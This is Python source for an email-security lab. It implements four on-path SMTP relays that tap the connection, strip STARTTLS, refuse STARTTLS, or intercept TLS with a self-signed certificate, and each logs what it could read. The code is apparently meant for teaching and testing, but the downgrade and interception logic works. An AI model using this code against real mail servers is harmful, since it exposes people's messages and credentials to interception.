"""On-path attackers for the lab: they sit between a sender and one MX host.

Four kinds, each a relay that keeps a log of everything it saw:

- ``tap``: passive; relays bytes unchanged. It reads the SMTP dialogue until
  STARTTLS, then only ciphertext (RFC 3207 §6 is about exactly this).
- ``strip``: rewrites the ``STARTTLS`` capability in the EHLO reply (and the
  command, should the client send it anyway) to ``XXXXXXXA``, as middleboxes
  were seen doing in the wild, so an opportunistic sender stays in the clear.
- ``refuse``: leaves the capability, but answers the STARTTLS command itself
  with ``454 4.7.0 TLS not available due to temporary reason``.
- ``substitute``: accepts STARTTLS with its own self-signed certificate for the
  MX name, starts TLS to the real MX as a client, and relays: it reads
  everything, and only a sender that checks certificates notices.

The relay is lock-step (one command, one reply), as SMTP without PIPELINING
is; lab receivers do not offer PIPELINING, so the log order is deterministic.
"""

from __future__ import annotations

import asyncio
import html
import logging
import ssl
from dataclasses import dataclass

log = logging.getLogger("helpers.lab.attack")

KINDS = ("tap", "strip", "refuse", "substitute")
_TIMEOUT = 30.0
_REFUSAL = b"454 4.7.0 TLS not available due to temporary reason\r\n"
_READY = b"220 2.0.0 Ready to start TLS\r\n"


@dataclass(frozen=True)
class Seen:
    """One chunk the attacker saw. ``sender`` is ``"client"`` or ``"server"``
    (``"attacker"`` for what it sent itself); ``channel`` is ``"clear"`` (plain
    SMTP), ``"encrypted"`` (TLS records it cannot read) or ``"decrypted"`` (inside
    a TLS session it terminated itself)."""

    sender: str
    data: bytes
    channel: str

    @property
    def readable(self) -> bool:
        return self.channel != "encrypted"

    def __str__(self) -> str:
        if self.readable:
            text = self.data.decode("utf-8", "replace").rstrip("\r\n")
        else:
            text = "TLS records from here on: ciphertext, unreadable without the keys"
        return f"{self.sender:>8} [{self.channel}] {text}"


class Relay:
    """A loopback TCP server that opens a connection to an upstream for each
    client and hands both to :meth:`_relay`; a session that fails ends with
    :meth:`_ended` (logged), never with an error in the lab's event loop."""

    _server = None

    def _upstream(self) -> tuple[str, int]:
        raise NotImplementedError

    async def _relay(self, c_r, c_w, s_r, s_w) -> None:
        raise NotImplementedError

    def _ended(self, error: BaseException) -> None:
        raise NotImplementedError

    async def stop(self) -> None:
        if self._server is not None:
            self._server.close()

    async def _session(self, c_r: asyncio.StreamReader, c_w: asyncio.StreamWriter):
        s_w = None
        try:
            s_r, s_w = await asyncio.wait_for(asyncio.open_connection(*self._upstream()),
                                              _TIMEOUT)
            await self._relay(c_r, c_w, s_r, s_w)
        except (asyncio.TimeoutError, asyncio.IncompleteReadError, ConnectionError,
                ssl.SSLError, OSError, KeyError) as e:  # KeyError: a route gone meanwhile
            self._ended(e)
        except asyncio.CancelledError:
            pass  # the lab is stopping (3.11 would log a cancelled handler as an error)
        finally:
            c_w.close()
            if s_w is not None:
                s_w.close()


class Attacker(Relay):
    """A relay on the path to ``host`` (the real MX at ``upstream``)."""

    def __init__(self, kind: str, host: str, upstream: tuple[str, int],
                 server_context: ssl.SSLContext | None = None):
        if kind not in KINDS:
            raise ValueError(f"unknown attack {kind!r}; the lab has: {', '.join(KINDS)}")
        if kind == "substitute" and server_context is None:
            raise ValueError("a substituting attacker needs its own certificate")
        self.kind, self.host, self.upstream = kind, host, upstream
        self._server_context = server_context
        self.log: list[Seen] = []
        self.port: int | None = None
        self._server = None

    # -- reading the log -----------------------------------------------------

    def cleartext(self) -> bytes:
        """Everything the attacker could read, in order, joined."""
        return b"".join(s.data for s in self.log if s.readable)

    def saw(self, needle: str | bytes) -> bool:
        """Whether ``needle`` passed the attacker in a form it could read."""
        if isinstance(needle, str):
            needle = needle.encode()
        return needle in self.cleartext()

    def clear(self) -> None:
        self.log.clear()

    def _shown(self) -> list[Seen]:
        """The log as displayed: every readable chunk; the ciphertext, whose
        chunking depends on timing, as one line."""
        shown, tail = [], False
        for s in self.log:
            if s.readable:
                shown.append(s)
            elif not tail:
                shown.append(Seen("both", b"", "encrypted"))
                tail = True
        return shown

    def __repr__(self) -> str:
        return f"<Attacker {self.kind} on the path to {self.host}: {len(self.log)} chunks seen>"

    def __str__(self) -> str:
        lines = [f"{self.kind} attacker on the path to {self.host}: what it saw"]
        lines += [f"  {s}" for s in self._shown()]
        return "\n".join(lines)

    def _repr_html_(self) -> str:
        rows = "".join(
            f'<tr style="background:{"#e6f4e6" if not s.readable else "#fde8e0"}">'
            f"<td>{html.escape(s.sender)}</td><td>{html.escape(s.channel)}</td>"
            f'<td style="text-align:left"><code>{html.escape(str(s).split("] ", 1)[1])}'
            "</code></td></tr>" for s in self._shown())
        return (f"<p><b>{html.escape(self.kind)}</b> attacker on the path to "
                f"<code>{html.escape(self.host)}</code>: what it saw</p><table><tr><th>from</th>"
                f"<th>channel</th><th>what it saw</th></tr>{rows}</table>")

    # -- serving -------------------------------------------------------------

    async def start(self, address: str) -> None:
        self._server = await asyncio.start_server(self._session, address, 0)
        self.port = self._server.sockets[0].getsockname()[1]

    def _upstream(self) -> tuple[str, int]:
        return self.upstream

    def _ended(self, error: BaseException) -> None:
        log.info("%s attacker on %s: session ended: %s", self.kind, self.host,
                 type(error).__name__)

    def _saw(self, sender: str, data: bytes, channel: str) -> None:
        self.log.append(Seen(sender, data, channel))

    async def _reply(self, s_r) -> list[bytes]:
        """One SMTP reply, all its lines (RFC 5321 §4.2.1: ``250-`` continues)."""
        lines = []
        while True:
            line = await asyncio.wait_for(s_r.readline(), _TIMEOUT)
            if not line:
                raise ConnectionError("server closed the connection")
            lines.append(line)
            if len(line) < 4 or line[3:4] != b"-":
                return lines

    async def _relay(self, c_r, c_w, s_r, s_w) -> None:
        channel = "clear"

        async def to_client(data: bytes, sender: str = "server") -> None:
            self._saw(sender, data, channel)
            c_w.write(data)
            await c_w.drain()

        async def to_server(data: bytes) -> None:
            self._saw("client", data, channel)
            s_w.write(data)
            await s_w.drain()

        for line in await self._reply(s_r):  # the greeting
            await to_client(line)
        while True:
            line = await asyncio.wait_for(c_r.readline(), _TIMEOUT)
            if not line:
                return
            verb = line.strip().upper()
            if verb == b"STARTTLS" and self.kind == "refuse":
                self._saw("client", line, channel)
                await to_client(_REFUSAL, "attacker")
                continue
            if verb == b"STARTTLS" and self.kind == "strip":
                line = line.replace(line.strip(), b"XXXXXXXA")
            if verb == b"STARTTLS" and self.kind == "substitute":
                await to_server(line)
                reply = await self._reply(s_r)
                self._saw("server", b"".join(reply), channel)
                if not reply[0].startswith(b"220"):
                    await to_client(b"".join(reply))
                    continue
                # TLS to the real MX (no check: the attacker does not care),
                # then TLS to the victim with the attacker's own certificate.
                upstream_ctx = ssl.create_default_context()
                upstream_ctx.check_hostname = False
                upstream_ctx.verify_mode = ssl.CERT_NONE
                await s_w.start_tls(upstream_ctx, server_hostname=self.host)
                await to_client(_READY, "attacker")
                await c_w.start_tls(self._server_context)
                channel = "decrypted"
                continue
            await to_server(line)
            reply = await self._reply(s_r)
            if self.kind == "strip" and verb.startswith((b"EHLO", b"HELO")):
                reply = [ln.replace(b"STARTTLS", b"XXXXXXXA") for ln in reply]
            for r in reply:
                await to_client(r)
            code = reply[-1][:3]
            if verb == b"STARTTLS" and code == b"220":
                await self._raw(c_r, c_w, s_r, s_w)  # only TLS records from here on
                return
            if verb == b"DATA" and code == b"354":
                while True:
                    data_line = await asyncio.wait_for(c_r.readline(), _TIMEOUT)
                    if not data_line:
                        return
                    await to_server(data_line)
                    if data_line in (b".\r\n", b".\n"):
                        break
                for r in await self._reply(s_r):
                    await to_client(r)
            if verb == b"QUIT":
                return

    async def _raw(self, c_r, c_w, s_r, s_w) -> None:
        async def pump(reader, writer, sender):
            while True:
                data = await asyncio.wait_for(reader.read(65536), _TIMEOUT)
                if not data:
                    writer.close()
                    return
                self._saw(sender, data, "encrypted")
                writer.write(data)
                await writer.drain()

        tasks = [asyncio.ensure_future(pump(c_r, s_w, "client")),
                 asyncio.ensure_future(pump(s_r, c_w, "server"))]
        # When one side is done the other follows within moments (its peer
        # sees the close); give it that long, then stop waiting.
        await asyncio.wait(tasks, return_when=asyncio.FIRST_COMPLETED)
        await asyncio.wait(tasks, timeout=2)
        for task in tasks:
            if not task.done():
                task.cancel()
            elif not task.cancelled():
                task.exception()  # retrieved: a reset after QUIT is normal
